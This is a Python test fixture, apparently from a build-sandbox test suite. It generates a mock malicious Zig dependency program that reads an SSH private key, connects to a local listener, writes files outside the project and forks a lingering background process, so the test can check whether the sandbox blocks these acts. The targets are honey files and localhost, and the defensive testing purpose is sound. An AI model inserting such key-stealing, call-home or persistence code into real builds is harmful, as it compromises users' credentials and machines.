"""The case that started it all: a module hides a run step; its program steals a key, calls home, writes elsewhere and stays."""

import shutil
import socket
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import NamedTuple

from tests.ecosystems.zig.configured.test_four_versions import FOUR

HONEY = "honey key, not for you"

_HEAD = """const std = @import("std");
const linux = std.os.linux;

fn ok(result: usize) bool {
    return @as(isize, @bitCast(result)) >= 0;
}

"""
_STEAL = """fn steal() bool {
    const file = linux.open("%HOME%/.ssh/id_ed25519", .{}, 0);
    var key: [100]u8 = undefined;
    if (!ok(file)) return false;
    const length = linux.read(@intCast(file), &key, key.len);
    _ = linux.write(2, &key, length);
    return true;
}
"""
_CALL = """fn call() bool {
    const socket = linux.socket(linux.AF.INET, linux.SOCK.STREAM, 0);
    var address: linux.sockaddr.in = .{ .port = std.mem.nativeToBig(u16, %PORT%), .addr = 0x0100007f };
    return ok(socket) and ok(linux.connect(@intCast(socket), @ptrCast(&address), @sizeOf(linux.sockaddr.in)));
}
"""
_PLANT = """fn plant() bool {
    return ok(linux.open("%OUTSIDE%/planted", .{ .ACCMODE = .WRONLY, .CREAT = true }, 0o644));
}
"""
_STAY = """fn stay() bool {
    if (linux.fork() != 0) return true;
    _ = linux.setsid();
    const time: linux.timespec = .{ .sec = 1, .nsec = 0 };
    _ = linux.nanosleep(&time, null);
    _ = linux.open("%OUTSIDE%/later", .{ .ACCMODE = .WRONLY, .CREAT = true }, 0o644);
    const long: linux.timespec = .{ .sec = 600, .nsec = 0 };
    _ = linux.nanosleep(&long, null);
    return true;
}
"""
_GENERATE = """const linux = @import("std").os.linux;

pub export fn main(_: c_int, words: [*]const [*:0]const u8) c_int {
    const data = linux.open(words[1], .{}, 0);
    var number: [4]u8 = undefined;
    if (linux.read(@intCast(data), &number, number.len) != number.len) return 1;
    const out = linux.open(words[2], .{ .ACCMODE = .WRONLY, .CREAT = true }, 0o644);
    const text = "pub const answer = 0b" ++ "1100" ++ ";\\n";
    return if (linux.write(@intCast(out), text, text.len) == text.len) 0 else 2;
}
"""
ACTS = {"steal": _STEAL, "call": _CALL, "plant": _PLANT, "stay": _STAY}


class Seed(NamedTuple):
    """The project, and what its program is after: the user's home with a key, a server, a folder that is none of its business."""

    root: Path
    home: Path
    outside: Path
    port: int
    callers: list[bytes]

    def program(self, *acts: str, insists: bool) -> str:
        """A program that does these things; one that insists fails where it may not."""
        parts = "".join(ACTS[act] for act in acts)
        calls = "".join(f"    if (!{act}()) linux.exit(1);\n" if insists else f"    _ = {act}();\n" for act in acts)
        text = f"{_HEAD}pub fn main() void {{\n{calls}}}\n\n{parts}"
        for name, value in (("HOME", self.home), ("OUTSIDE", self.outside), ("PORT", self.port)):
            text = text.replace(f"%{name}%", str(value))
        return text

    def becomes(self, program: str) -> None:
        (self.root / "deps/super/evil.zig").write_text(program)

    def line_of(self, program: str, words: str) -> int:
        return next(number for number, line in enumerate(program.splitlines(), 1) if words in line)

    def damage(self) -> list[str]:
        """What it achieved."""
        return [*(path.name for path in self.outside.iterdir()), *("called" for _ in self.callers)]


def _make_generators_work(tables: Path) -> None:
    """The project was there only to be configured."""
    build = (tables / "build.zig").read_text()
    for before, after in {
        'list.addDirectoryArg(b.path("lists"));': "",
        '"b\\na\\n"': '"pub const one = 1;\\n"',
        "    const generate =": "    generator.root_module.link_libc = true;\n    const generate =",
    }.items():
        assert before in build
        build = build.replace(before, after)
    (tables / "build.zig").write_text(build)
    (tables / "generate.zig").write_text(_GENERATE)


@contextmanager
def seed(folder: Path) -> Iterator[Seed]:
    root = Path(shutil.copytree(FOUR, folder / "four"))
    _make_generators_work(root / "deps/tables")
    home, outside = folder / "home", root / "elsewhere"
    (home / ".ssh").mkdir(parents=True)
    (home / ".ssh/id_ed25519").write_text(HONEY)
    outside.mkdir()
    callers: list[bytes] = []
    with socket.create_server(("127.0.0.1", 0)) as server:

        def accept() -> None:
            while True:
                try:
                    caller, _ = server.accept()
                except OSError:
                    return
                callers.append(b"called")
                caller.close()

        threading.Thread(target=accept, daemon=True).start()
        yield Seed(root, home, outside, server.getsockname()[1], callers)
